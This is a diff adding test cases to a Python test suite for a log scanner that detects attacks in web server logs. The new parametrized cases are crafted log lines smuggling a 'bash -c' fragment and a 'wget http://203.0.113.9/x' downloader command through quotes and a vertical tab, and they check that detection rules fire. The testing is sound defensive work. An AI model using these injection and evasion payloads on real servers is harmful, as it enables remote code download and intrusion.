@@ -10,7 +10,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from conftest import CORPUS, REAL_APACHE_LINES, SAMPLE_LOGS, combined_line, corpus_cases
-from dropscan.logformat import compile_format
+from dropscan.logformat import LogFormat, compile_format
 from dropscan.sources import Source, is_log_like, open_blocks
 
 COMBINED = compile_format("combined")
@@ -52,6 +52,28 @@ def test_corpus(fast_scanner, full_scanner):
 def test_real_lines_and_junk(fast_scanner, full_scanner):
     chunk = b"\n".join([*REAL_APACHE_LINES, b"junk", b"\xff\xfe", b""]) + b"\n"
     _compare(fast_scanner, full_scanner, chunk)
+
+
+# Lines the fast path used to skip while the full path found something (the first found by
+# tests/test_fuzz.py): quotes that the cmd view deletes where no quote marker looked.
+UNQUOTED_HEADER = LogFormat('%h %l %u %t "%r" %>s %b %{X-Cmd}i')
+PREFIX = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 '
+
+
+@pytest.mark.parametrize(
+    ("fmt", "line", "rule"),
+    [
+        # not a record (a vhost prefix under combined): its raw text holds the field quotes
+        (COMBINED, b"www.example.com:80 " + PREFIX + b'";" "bash -c "', "rce.shell-command"),
+        # raw double quotes inside an unquoted field (a server that does not escape them)
+        (UNQUOTED_HEADER, PREFIX + b';w""get%20http://203.0.113.9/x', "dropper.wget"),
+        # a raw vertical tab, which the cmd view makes a space
+        (UNQUOTED_HEADER, PREFIX + b";wget\x0bhttp://203.0.113.9/x", "dropper.wget"),
+    ],
+)
+def test_quotes_and_spaces_the_cmd_view_removes_reach_the_fast_path(fast_scanner, full_scanner, fmt, line, rule):
+    res = _compare(fast_scanner, full_scanner, line + b"\n", fmt)
+    assert [f.rule_ids[0] for f in res.findings] == [rule]
 
 
 # --- generated evasions: the prefilter must pass every line the full path finds something in ---
